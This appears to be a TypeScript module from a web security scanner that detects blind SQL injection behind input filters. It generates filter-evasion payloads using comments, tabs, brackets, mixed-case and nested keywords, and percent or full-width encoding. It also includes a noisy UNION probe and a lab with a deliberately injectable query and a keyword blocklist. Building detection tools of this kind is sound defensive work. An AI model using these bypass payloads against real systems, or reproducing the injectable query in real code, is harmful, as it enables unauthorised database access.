import { asPercent, asWide, type Decoding } from '../../../oracle/encodings.ts';
import type { Asking, Point } from '../../define-active-check.ts';
import type { Nonce } from '../../experiment.ts';
import { asPage, openTeaShop } from '../../labs/sql.ts';
import { defineBooleanCheck } from '../../shared/boolean-check.ts';
import { type Filter, firstSpelling, respell, watchFilter } from '../../shared/filters.ts';
import { SPACES } from '../../shared/rewritings.ts';
import {
  SQL_CVSS,
  SQL_CVSS4,
  SQL_FAMILY,
  SQL_FIX,
  SQL_IMPACT,
  SQL_LOCATIONS,
  SQL_MEANINGS,
  SQL_REFERENCES,
  SQL_WHY,
} from '../../shared/sql.ts';
import { mayMean } from '../../triage.ts';

/** What ends the value and opens it again, so that no comment has to neutralise the rest. */
interface Variant {
  before: string;
  after: string;
  /** Replace those of the condition. */
  equals?: string;
  space?: string;
  /** The target reads the condition once more. */
  decoding?: Decoding;
}

/** Not the usual condition only, so that a filter of any kind refuses it. */
const LOUD = "' AND 1=1 UNION SELECT 1 OR 'a' LIKE 'a' -- #";
const QUOTES = ["'", '', '"'];
const SPACES_OF_SQL = [' ', ...[SPACES.comment, SPACES.tab, SPACES.newline], '\v'];

/** Resolves to the frames in spellings that pass the filter; to none where the usual ones would pass as well. */
async function framesPast(filter: Filter): Promise<Variant[]> {
  const space = await spaceFor(filter);
  const and = (await firstSpelling(['AND', '&&'], filter, true))?.spelling;
  if (and === undefined) return [];
  const like = await spelledLike(filter, space);
  const found: Variant[] = [];
  for (const quote of like === undefined ? [] : QUOTES) {
    const mark = quote === '' ? '' : await spelledQuote(quote, filter);
    if (mark === undefined) continue;
    // Brackets and quotes separate words where no space passes.
    const isTight = space === undefined && mark !== '';
    if (space === undefined && !isTight) continue;
    const [open, close] = isTight ? ['(', ')'] : [space, space];
    const before = isTight ? `${mark}${and}${open}` : `${mark}${space}${and}${space}`;
    const after = mark === '' ? '' : `${close}${and}${isTight ? '' : space}${mark}7${mark}${like}${mark}7`;
    found.push({ before, after, space: space ?? '(', ...(like !== '=' && { equals: like ?? '=' }) });
  }
  const isUsual = space === ' ' && and === 'AND' && like === '=';
  return found.filter(({ before }) => !isUsual || !QUOTES.some((quote) => before === `${quote} AND `));
}

/** Behind a number, a comment is answered like nothing at all, whether a filter removes it or not. */
async function spaceFor(filter: Filter): Promise<string | undefined> {
  let likeNothing: string | undefined;
  for (const space of SPACES_OF_SQL) {
    const fate = await filter.fateOf(space);
    if (fate === 'kept') return space;
    if (fate === 'removed' && space !== ' ') likeNothing ??= space;
  }
  return likeNothing;
}

async function spelledLike(filter: Filter, space: string | undefined): Promise<string | undefined> {
  const equals = await respell('=', filter);
  const like = equals === undefined ? await respell('LIKE', filter, true) : undefined;
  return equals ?? (like === undefined || space === undefined ? undefined : `${space}${like}${space}`);
}

/** Doubled, a quote does not end a text, so that the response tells of the filter only. */
async function spelledQuote(quote: string, filter: Filter): Promise<string | undefined> {
  const spelling = await respell(quote.repeat(2), filter);
  return spelling?.slice(0, spelling.length / 2);
}

/** For values whose responses do not tell what a filter lets through. */
const BLIND: readonly Variant[] = QUOTES.flatMap((quote) =>
  ['/**/aNd/**/', '\taNd\t', '/**/aandnd/**/', '&&'].map((join) => ({
    before: `${quote}${join}`,
    space: SPACES.comment,
    after: quote === '' ? '' : `${join}${quote}7${quote}=${quote}7`,
  })),
);

/** Encoded as a whole: the filter reads none of it. */
const encoded = (decoding: Decoding): Variant[] =>
  QUOTES.map((quote) => {
    const write = decoding === 'percent' ? asPercent : asWide;
    const after = quote === '' ? '' : write(` AND ${quote}7${quote}=${quote}7`);
    return { before: write(`${quote} AND `), after, decoding };
  });

async function chooseFrames(point: Point, nonce: Nonce, { ask, look }: Asking): Promise<readonly Variant[]> {
  const isMeant = look === undefined || mayMean(look, ...SQL_MEANINGS);
  const filter = await watchFilter({ point, nonce, ask, loud: LOUD, most: 14 });
  if (!filter) return isMeant ? BLIND : [];
  const decoding = filter.mayRefuse || !isMeant ? await filter.decoding() : undefined;
  if (decoding) return encoded(decoding);
  return isMeant ? framesPast(filter) : [];
}

function written(condition: string, { equals = '=', space = ' ', decoding }: Variant): string {
  if (decoding) return decoding === 'percent' ? asPercent(condition) : asWide(condition);
  return condition.replaceAll(' ', space).replaceAll('=', equals);
}

export default defineBooleanCheck<Variant>({
  id: 'sql-injection-filtered',
  family: SQL_FAMILY,
  flaw: { name: 'sql-injection', rank: 5 },
  provesInterpreter: true,
  title: 'SQL injection behind a filter (boolean-based blind)',
  cwe: 89,
  cvss: SQL_CVSS,
  cvss4: SQL_CVSS4,
  impact: SQL_IMPACT,
  why: `${SQL_WHY} The usual conditions did not get through, but others that a filter overlooks did: with comments, tabs or brackets instead of spaces, in mixed case, with nested words, other operators, encoded twice or in full-width characters. True and false conditions written that way changed the response consistently; invalid SQL did not return the same result.`,
  fix: SQL_FIX,
  references: SQL_REFERENCES,
  depth: 'STANDARD',
  locations: SQL_LOCATIONS,
  appliesTo: () => true,
  // Behind a filter that decodes, the interpreter sees none of the spellings of the triage.
  isWorthTrying: (triage) =>
    triage.isStable && (mayMean(triage, ...SQL_MEANINGS) || (triage.isRead && triage.isReactive)),
  variants: BLIND,
  choose: chooseFrames,
  maxRequests: 50,
  invalidLabel: 'invalid SQL',
  conditions: ({ numbers: [a, b, c] }) => ({
    pairs: [
      { label: (truth) => `${truth} condition past a filter`, true: `${a}=${a}`, false: `${a}=${c}` },
      {
        label: (truth) => `${truth} condition with a product`,
        true: `${a}*${b}=${a * b}`,
        false: `${a}*${b}=${a * b + 1}`,
      },
      { label: (truth) => `another ${truth} condition`, true: `${b}=${b}`, false: `${c}=${b}` },
    ],
    invalid: `${c} ${b}`,
  }),
  write: ({ parameter }, variant, _nonce, condition) =>
    `${parameter.value}${variant.before}${written(condition, variant)}${variant.after}`,
  lab() {
    const ask = openTeaShop(asPage);
    const blocked = { status: 403, body: 'That looks odd' };
    const isOdd = (value: string) => /\s|--|#|\b(?:and|or|AND|OR|union|UNION|select|SELECT|case|CASE)\b/.test(value);
    return {
      parameter: 'kind',
      value: 'green',
      vulnerable: (value) => (isOdd(value) ? blocked : ask(`select name from tea where kind = '${value}'`)),
      safe: (value) => (isOdd(value) ? blocked : ask('select name from tea where kind = ?', value)),
    };
  },
});
